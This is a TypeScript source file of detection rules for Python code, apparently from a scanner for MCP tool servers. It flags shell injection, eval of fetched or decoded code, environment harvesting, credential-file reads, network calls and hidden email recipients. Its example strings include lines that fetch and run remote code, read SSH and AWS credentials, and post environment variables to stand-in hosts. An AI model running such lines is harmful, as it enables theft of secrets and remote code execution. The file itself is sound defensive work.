// Code rules for Python, in the same shape as the JavaScript ones.
import { DECODE_ORIGIN, NETWORK_ORIGIN, anyPresent, isLiteral, type CodeMatcher, type MatchContext } from './code-types.js';
import { CRED_PATH, CRED_PATH_RUST, inReadContext } from './code-js.js';
import { named, type SgNode } from '../analyze/sg.js';

/** Network calls: [token that must occur in the file, pattern]. */
const NET_PY: [RegExp, string][] = [
  [/\brequests\./, 'requests.$M($$$A)'],
  [/\bhttpx\./, 'httpx.$M($$$A)'],
  [/\burlopen\b/, 'urlopen($$$A)'],
  [/\burllib\.request\.urlopen\b/, 'urllib.request.urlopen($$$A)'],
  [/\bsocket\.socket\b/, 'socket.socket($$$A)'],
  [/\bsocket\.create_connection\b/, 'socket.create_connection($$$A)'],
  [/\bsmtplib\.SMTP\b/, 'smtplib.SMTP($$$A)'],
  [/\bsmtplib\.SMTP_SSL\b/, 'smtplib.SMTP_SSL($$$A)'],
  [/\baiohttp\.ClientSession\b/, 'aiohttp.ClientSession($$$A)'],
  [/\bHTTPS?Connection\b/, 'http.client.HTTPSConnection($$$A)'],
  [/\bftplib\.FTP\b/, 'ftplib.FTP($$$A)'],
  [/\b(?:client|session)\.(?:get|post|put|patch|delete|request|send)\b/, 'client.$M($$$A)'],
  [/\b(?:client|session)\.(?:get|post|put|patch|delete|request|send)\b/, 'session.$M($$$A)'],
  [/\bself\.(?:client|session)\./, 'self.$C.$M($$$A)'],
];

const tool = (sig: string, body: string) => `@mcp.tool()\ndef t(${sig}) -> str:\n    """Does a thing."""\n    ${body.split('\n').join('\n    ')}\n`;

function args(n: SgNode): SgNode[] {
  return named(n.field('arguments')?.children() ?? []);
}

function shellRefine(cmd: SgNode | undefined, ctx: MatchContext, n: SgNode) {
  if (!cmd || isLiteral(cmd)) return null;
  if (cmd.kind() === 'list') return null;
  if (cmd.kind() === 'identifier') {
    const b = ctx.bindings.lookup(cmd.text());
    if (b?.node && (isLiteral(b.node) || b.node.kind() === 'list') && !b.mutated) return null;
  }
  const t = ctx.toolAt(n);
  return t ? { id: 'mcp/code/shell-injection', message: `tool ${t} runs a shell command built from a variable` } : { id: 'mcp/code/shell-string' };
}

export const PY_MATCHERS: CodeMatcher[] = [
  {
    id: 'mcp/code/shell-string',
    lang: 'python',
    prefilter: /shell\s*=\s*True|os\.system|os\.popen|getoutput|create_subprocess_shell|commands\./,
    find: {
      rule: {
        any: [
          { kind: 'call', has: { field: 'arguments', has: { kind: 'keyword_argument', regex: '^shell\\s*=\\s*True$' } } },
          { kind: 'call', has: { field: 'function', regex: '^(?:os\\.system|os\\.popen|subprocess\\.getoutput|subprocess\\.getstatusoutput|asyncio\\.create_subprocess_shell|commands\\.getoutput)$' } },
        ],
      },
    },
    refine: (n, ctx) => shellRefine(args(n)[0], ctx, n),
    examples: {
      hit: [tool('branch: str', 'return subprocess.run(f"git log {branch}", shell=True, capture_output=True).stdout'), tool('name: str', 'os.system("ping -c1 " + name)')],
      safe: [tool('branch: str', 'return subprocess.run(["git", "log", branch], capture_output=True).stdout'), 'subprocess.run("make test", shell=True)', tool('n: str', 'os.system("clear")')],
    },
  },
  {
    id: 'mcp/code/dynamic-eval',
    lang: 'python',
    prefilter: /\b(?:exec|eval|compile|loads)\s*\(/,
    find: { rule: { kind: 'call', has: { field: 'function', regex: '^(?:exec|eval|compile|builtins\\.exec|builtins\\.eval|marshal\\.loads|pickle\\.loads)$' } } },
    refine: (n, ctx) => {
      const a = args(n).filter((x) => x.kind() !== 'keyword_argument');
      if (a.length === 0 || isLiteral(a[0])) return null;
      const origin = a.map((x) => ctx.origin(x)).join('\n');
      if (NETWORK_ORIGIN.test(origin)) return { id: 'mcp/code/remote-code-exec', message: 'executes code fetched from the network' };
      if (DECODE_ORIGIN.test(origin) || /marshal|pickle/.test(n.field('function')?.text() ?? '')) return { id: 'mcp/code/decoded-exec', message: 'executes decoded data' };
      return {};
    },
    examples: {
      hit: ['exec(requests.get("https://paste.example/x").text)', 'exec(base64.b64decode("cHJpbnQoMSk="))', 'code = zlib.decompress(blob)\nexec(code)', 'eval(expr)'],
      safe: ['eval("1 + 2")', 'result = ast.literal_eval(text)', 're.compile(pattern)'],
    },
  },
  {
    id: 'mcp/code/env-harvest',
    lang: 'python',
    prefilter: /os\.environ/,
    find: {
      rule: {
        any: [
          { pattern: 'dict(os.environ)' },
          { pattern: 'json.dumps(os.environ $$$)' },
          { pattern: 'str(os.environ)' },
          { pattern: 'os.environ.items()' },
          { pattern: 'os.environ.keys()' },
          { pattern: 'os.environ.values()' },
          { kind: 'for_statement', has: { field: 'right', regex: '^os\\.environ$' } },
          { kind: 'dictionary_splat', regex: '^\\*\\*os\\.environ$' },
          { kind: 'keyword_argument', has: { field: 'value', regex: '^os\\.environ$' } },
          { kind: 'pair', has: { field: 'value', regex: '^(?:dict\\()?os\\.environ\\)?$' } },
        ],
      },
    },
    refine: (n) => {
      for (const a of [n, ...n.ancestors().slice(0, 4)]) {
        if (a.kind() === 'keyword_argument' && a.field('name')?.text() === 'env') return null;
        if (a.kind() === 'assignment' && /env/i.test(a.field('left')?.text() ?? '') && n.kind() === 'dictionary_splat') return null;
      }
      const up = n.parent()?.parent()?.text() ?? '';
      if (/startswith\(\s*['"]/.test(up)) return null;
      return {};
    },
    examples: {
      hit: ['requests.post(URL, json=dict(os.environ))', 'for k, v in os.environ.items():\n    out[k] = v', 'payload = {"env": dict(os.environ)}'],
      safe: ['subprocess.run(cmd, env={**os.environ, "X": "1"})', 'key = os.environ.get("API_KEY")', 'subprocess.run(cmd, env=os.environ)'],
    },
  },
  {
    id: 'mcp/code/credential-read',
    lang: 'python',
    prefilter: CRED_PATH,
    find: { rule: { kind: 'string', regex: CRED_PATH_RUST } },
    refine: (n) => (CRED_PATH.test(n.text()) && inReadContext(n) ? { message: `reads a credential path (${n.text().slice(0, 60)})` } : null),
    examples: {
      hit: ['creds = (Path.home() / ".aws" / "credentials").read_text()', 'key = open(os.path.expanduser("~/.ssh/id_rsa")).read()'],
      safe: ['DENY = [".ssh", ".aws"]', 'cfg = open(os.path.expanduser("~/.config/weather/config.toml")).read()'],
    },
  },
  {
    id: 'mcp/code/network',
    lang: 'python',
    prefilter: /requests|httpx|urlopen|urllib|socket|smtplib|aiohttp|http\.client|ftplib|\.post\(|\.get\(/,
    find: (text) => anyPresent(text, NET_PY),
    refine: (n, ctx) => {
      const fn = n.field('function')?.text() ?? '';
      if (/^(?:requests|httpx|client|session|self\.\w+)\.(\w+)$/.test(fn) && !/\.(?:get|post|put|patch|delete|request|head|stream|send|Client|AsyncClient|Session)$/.test(fn)) return null;
      if (/^self\./.test(fn) && !/^self\.(?:client|session|http)\w*\./i.test(fn)) return null;
      const first = args(n)[0];
      const m = first ? /\b(?:https?|wss?):\/\/([A-Za-z0-9.-]+)/.exec(ctx.origin(first)) : null;
      return m ? { host: m[1]!.toLowerCase(), message: `network request to ${m[1]}` } : {};
    },
    examples: { hit: ['r = requests.post("https://collect.example.net/x", json=data)', 'async with httpx.AsyncClient() as c:\n    pass'], safe: ['v = config.get("key")', 'd = {}.get("a")'] },
  },
  {
    id: 'mcp/code/encoded-payload',
    lang: 'python',
    prefilter: /b64decode|fromhex|unhexlify|decompress|codecs\.decode/,
    find: { rule: { kind: 'call', has: { field: 'function', regex: '^(?:base64\\.(?:b64decode|b32decode|b85decode|urlsafe_b64decode)|bytes\\.fromhex|binascii\\.unhexlify|zlib\\.decompress|codecs\\.decode)$' } } },
    refine: (n, ctx) => {
      const first = args(n)[0];
      const origin = first ? ctx.origin(first) : '';
      const blob = /['"]([A-Za-z0-9+/=_-]{200,}|[0-9a-fA-F]{200,})['"]/.exec(origin);
      return blob ? { message: `decodes a ${blob[1]!.length}-character encoded literal` } : null;
    },
    examples: { hit: [`blob = base64.b64decode("${'QUJD'.repeat(60)}")`], safe: ['data = base64.b64decode(payload)', 'x = base64.b64decode("aGk=")'] },
  },
  {
    id: 'mcp/code/path-prefix-check',
    lang: 'python',
    prefilter: (t) => /\.startswith\s*\(/.test(t) && /os\.path\.(?:abspath|normpath|join)/.test(t) && !/realpath|\.resolve\(|commonpath|is_relative_to|samefile/.test(t),
    find: { rule: { pattern: '$A.startswith($B)' } },
    refine: (n, ctx) => {
      if (/realpath|\.resolve\(|commonpath|is_relative_to|samefile/.test(ctx.text) || !/os\.path\.(?:abspath|normpath|join)/.test(ctx.text)) return null;
      const a = n.getMatch('A')!.text();
      const b = n.getMatch('B')!;
      if (isLiteral(b) && !/\//.test(b.text())) return null;
      if (/os\.sep|\+\s*['"][/\\]['"]|['"][/\\]['"]\s*$/.test(ctx.origin(b))) return null;
      if (!/path|dir|root|base|allow|resolved|abs|target|file|folder|workspace/i.test(a + ' ' + b.text())) return null;
      return { message: `confines a path with ${n.text().slice(0, 80)} (no realpath, no separator)` };
    },
    examples: {
      hit: ['p = os.path.abspath(os.path.join(ROOT, rel))\nif not p.startswith(ALLOWED_DIR):\n    raise ValueError("denied")'],
      safe: ['p = os.path.realpath(os.path.join(ROOT, rel))\nif os.path.commonpath([p, ROOT]) != ROOT:\n    raise ValueError()', 'p = os.path.abspath(x)\nif line.startswith("#"):\n    pass'],
    },
  },
  {
    id: 'mcp/code/hidden-recipient',
    lang: 'python',
    prefilter: (t) => /\bb?cc\b/i.test(t) && /['"][\w.+-]+@[\w-]+(?:\.[\w-]+)+['"]/.test(t),
    find: {
      rule: {
        any: [
          { kind: 'keyword_argument', has: { field: 'name', regex: '^(?:bcc|cc)$' } },
          { kind: 'pair', has: { field: 'key', regex: '^["\'](?:bcc|Bcc|BCC|cc|Cc|CC)["\']$' } },
          { kind: 'assignment', has: { field: 'left', regex: '\\[\\s*["\'](?:bcc|Bcc|BCC|cc|Cc|CC)["\']\\s*\\]$' } },
        ],
      },
    },
    refine: (n, ctx) => {
      const value = n.field('value') ?? n.field('right');
      if (!value) return null;
      const email = /['"]([\w.+-]+@[\w-]+(?:\.[\w-]+)+)['"]/.exec(ctx.origin(value));
      return email ? { message: `adds a fixed recipient ${email[1]}`, host: email[1]!.toLowerCase() } : null;
    },
    examples: { hit: ['msg["Bcc"] = "archive@mailsink.example"', 'send(to=to, bcc="x@collector.example")'], safe: ['msg["Cc"] = cc', 'send(to=to, bcc=bcc)'] },
  },
];
